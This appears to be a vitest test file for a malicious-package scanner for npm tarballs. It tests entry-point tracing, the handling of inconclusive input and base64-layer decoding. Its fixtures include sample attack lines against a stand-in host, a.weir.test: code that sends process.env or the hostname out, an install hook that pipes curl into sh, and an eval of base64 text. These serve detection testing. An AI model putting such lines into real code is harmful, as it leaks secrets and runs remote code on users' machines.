import type { Detector } from '@weir/detectors';
import { type AnalysisResult, type ArtifactView, analysisResultSchema, type Ecosystem } from '@weir/model';
import { describe, expect, test } from 'vitest';
import { type AnalyzeOptions, analyzeArtifact } from './analyze.ts';
import { DEFAULT_ANALYSIS_BUDGET } from './limits.ts';
import { createMemoryView } from './memory-view.ts';

type Files = Readonly<Record<string, string | Uint8Array>>;

function isView(value: Files | ArtifactView): value is ArtifactView {
  return Symbol.asyncDispose in value;
}

async function analyze(
  files: Files | ArtifactView,
  options: Partial<AnalyzeOptions> = {},
  ecosystem: Ecosystem = 'npm',
): Promise<AnalysisResult> {
  const view = isView(files) ? files : createMemoryView(files);
  const result = await analyzeArtifact(
    view,
    { ecosystem, filename: 'x.tgz', context: null },
    {
      layout: 'archive',
      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
      rulesetVersion: 'test',
      now: () => performance.now(),
      ...options,
    },
  );
  expect(analysisResultSchema.safeParse(result).error).toBeUndefined();
  return result;
}

/** A statement that a detector speaks about at once, whatever the stage. */
const ATTACK = `require('https').get('https://a.weir.test/' + JSON.stringify(process.env));`;

function pkg(fields: object): string {
  return JSON.stringify({ name: 'x', version: '1.0.0', ...fields });
}

/** Stage of the attack in `path`, null when nothing was said. */
async function stageOf(fields: object, path: string, more: Files = {}): Promise<string | null> {
  const result = await analyze({ 'package/package.json': pkg(fields), [`package/${path}`]: ATTACK, ...more });
  return result.findings.find((finding) => finding.location?.file === path)?.stage ?? null;
}

describe('entry graph: the earliest stage that reaches a file', () => {
  test.each([
    ['a hook', { scripts: { preinstall: 'node a' } }, 'a.js', 'install'],
    [
      'a hook through npm run',
      { scripts: { install: 'npm run -s x', x: 'node ./lib/a.js' } },
      'lib/a.js',
      'install',
    ],
    ['a hook and main', { main: 'a.js', scripts: { postinstall: 'node a.js' } }, 'a.js', 'install'],
    ['inline code of a hook', { scripts: { postinstall: `node -e "require('./a')"` } }, 'a.js', 'install'],
    ['main without extension', { main: './lib/a' }, 'lib/a.js', 'import'],
    ['main that is a folder', { main: 'lib' }, 'lib/index.js', 'import'],
    ['no main at all', {}, 'index.js', 'import'],
    ['module', { module: 'a.mjs' }, 'a.mjs', 'import'],
    ['browser', { browser: { './x.js': './a.js' } }, 'a.js', 'import'],
    [
      'exports under conditions',
      { exports: { '.': { node: { import: './a.mjs' }, default: './b.js' } } },
      'a.mjs',
      'import',
    ],
    ['exports with a pattern', { exports: { './f/*': './src/*.js' } }, 'src/deep/a.js', 'import'],
    ['bin', { main: 'm.js', bin: { x: './a.js' } }, 'a.js', 'use'],
    ['bin without extension', { bin: 'cli' }, 'cli', 'use'],
  ])('%s', async (_name, fields, path, stage) => {
    expect(await stageOf(fields, path)).toBe(stage);
  });

  test.each([
    ['require', `require('./a')`],
    ['import', `import './a.js'`],
    ['export from', `export * from './a.js'`],
    ['import()', `await import('./' + 'a.js')`],
    ['a computed path', `require(require('path').join(__dirname, 'a'))`],
    ['fork', `require('child_process').fork('./a.js')`],
    ['a worker', `new (require('worker_threads').Worker)(new URL('./a.js', import.meta.url))`],
    ['a node command', `require('child_process').execSync('node a.js')`],
  ])('import follows %s', async (_name, code) => {
    expect(await stageOf({ main: 'm.js' }, 'a.js', { 'package/m.js': code })).toBe('import');
  });

  test('a file that a hook only names counts as run', async () => {
    const setup = `const f = 'payload.js'; spawnWithForeignRuntime(f);`;
    expect(
      await stageOf({ scripts: { postinstall: 'node s.js' } }, 'payload.js', { 'package/s.js': setup }),
    ).toBe('install');
  });

  test('what nothing reaches is dead and silent; a prepare hook does not run from a registry', async () => {
    expect(await stageOf({ main: 'm.js' }, 'test/a.js', { 'package/m.js': '1' })).toBeNull();
    expect(
      await stageOf({ main: 'm.js', scripts: { prepare: 'node a.js' } }, 'a.js', { 'package/m.js': '1' }),
    ).toBeNull();
  });

  test('of two members with one path the last wins, whatever the top folder is called', async () => {
    const view = createMemoryView({
      'package/package.json': pkg({ main: 'clean.js' }),
      'other/package.json': pkg({ main: 'a.js' }),
      'package/a.js': ATTACK,
      'package/clean.js': '1',
    });
    const result = await analyze(view);
    expect(result.findings.map((finding) => finding.location?.file)).toContain('a.js');
  });
});

describe('unknown is not clean', () => {
  test('no package.json', async () => {
    const result = await analyze({ 'package/index.js': '1' });
    expect(result.judgement).toMatchObject({ verdict: 'inconclusive', complete: false });
    expect(result.skipped[0]?.reason).toContain('no package.json');
  });

  test.each(['{', '[]', '"x"', ''])('package.json is %j', async (text) => {
    expect((await analyze({ 'package/package.json': text })).judgement.verdict).toBe('inconclusive');
  });

  test('another ecosystem', async () => {
    expect((await analyze({ 'x/extension.js': '1' }, {}, 'vscode-extension')).judgement.verdict).toBe(
      'inconclusive',
    );
  });

  test('a spent budget names what was not read', async () => {
    const files = { 'package/package.json': pkg({ main: 'a.js' }), 'package/a.js': 'x'.repeat(100) };
    const budget = { ...DEFAULT_ANALYSIS_BUDGET, parsedBytesMax: 10 };
    const result = await analyze(files, { budget });
    expect(result.judgement.verdict).toBe('inconclusive');
    expect(result.skipped.map((skipped) => skipped.file)).toEqual(['a.js']);
    expect(result.findings.map((finding) => finding.rule)).toEqual(['analysis/budget-release']);
  });

  test('deep nesting is a finding and leaves the verdict open', async () => {
    const result = await analyze({
      'package/package.json': pkg({ main: 'a.js' }),
      'package/a.js': '['.repeat(50_000),
    });
    expect(result.judgement.verdict).toBe('inconclusive');
    expect(result.findings.map((finding) => finding.rule)).toEqual(['analysis/nesting']);
  });

  test('an archive problem is scored, and what was found stands', async () => {
    const view = createMemoryView({
      'package/package.json': pkg({ scripts: { install: 'curl http://a.weir.test/x | sh' } }),
    });
    const cut = {
      ...view,
      complete: false,
      problems: [{ code: 'budget-bytes', path: null, detail: 'over' }],
    };
    const result = await analyze(cut);
    expect(result.judgement).toMatchObject({ verdict: 'malicious', complete: false });
    expect(result.findings.map((finding) => finding.rule)).toContain('analysis/archive-budget-bytes');
  });

  test('a detector that fails leaves the verdict open', async () => {
    const broken: Detector = {
      id: 'broken',
      title: 'breaks',
      rules: [],
      detect: () => {
        throw new Error('oops');
      },
    };
    const result = await analyze({ 'package/package.json': pkg({}) }, { detectors: [broken] });
    expect(result.judgement).toMatchObject({ verdict: 'inconclusive', complete: false });
    expect(result.findings.map((finding) => finding.rule)).toEqual(['detector-error/crashed']);
  });
});

describe('what a finding says', () => {
  test('a decoded layer carries its line and where it came from', async () => {
    const inner = `const os = require('os');\nrequire('https').get('https://a.weir.test/?' + os.hostname());`;
    const code = `\n\neval(atob('${Buffer.from(inner).toString('base64')}'));`;
    const result = await analyze({
      'package/package.json': pkg({ scripts: { postinstall: 'node a.js' } }),
      'package/a.js': code,
    });
    const found = result.findings.find((finding) => finding.rule === 'env-to-network/host-identity');
    expect(found?.location).toMatchObject({ file: 'a.js', line: 2, layer: 'base64' });
    expect(found?.chain[0]).toBe('a.js:3 base64');
    expect(found?.indicators).toContainEqual({ type: 'domain', value: 'a.weir.test' });
  });

  test('capabilities are ids, sorted, and no threat', async () => {
    const code = `const fs = require('fs'); require('child_process').spawn('git'); fs.writeFileSync('a', process.env.HOME);`;
    const result = await analyze({
      'package/package.json': pkg({ scripts: { postinstall: 'node-gyp rebuild' } }),
      'package/index.js': code,
    });
    expect(result.capabilities).toEqual([
      'env.read',
      'fs.write',
      'install.build',
      'install.script',
      'process.spawn',
    ]);
    expect(result.findings).toEqual([]);
    expect(result.judgement).toMatchObject({ verdict: 'benign', score: 0 });
  });

  test('hostile names and NULs reach no field unclean', async () => {
    const result = await analyze({
      'package/package.json': pkg({ scripts: { install: 'curl http://a.weir.test/\u0000 | sh #\ud800' } }),
    });
    expect(result.judgement.verdict).toBe('malicious');
    expect(JSON.stringify(result)).not.toMatch(/\\u0000|\\ud800/);
  });
});

describe('chains over three files', () => {
  const gather = `exports.all = () => JSON.stringify(process.env);`;
  const send = `exports.send = (data) => fetch('https://a.weir.test/', { method: 'POST', body: data });`;
  const glue = `const a = require('./a'); require('./b').send(a.all());`;
  const files = { 'package/package.json': pkg({}), 'package/index.js': glue };

  test('a file that only hands on is followed where another gathers and a third one sends', async () => {
    const result = await analyze({ ...files, 'package/a.js': gather, 'package/b.js': send });
    expect(result.findings[0]).toMatchObject({
      rule: 'env-to-network/environment',
      location: { file: 'index.js', line: 1 },
    });
  });

  test('without one of the ends there is no chain', async () => {
    const quiet = `exports.send = (data) => data; exports.all = () => 1;`;
    for (const [a, b] of [
      [gather, quiet],
      [quiet, send],
    ] as const) {
      const result = await analyze({ ...files, 'package/a.js': a, 'package/b.js': b });
      expect(result.findings).toEqual([]);
    }
  });
});
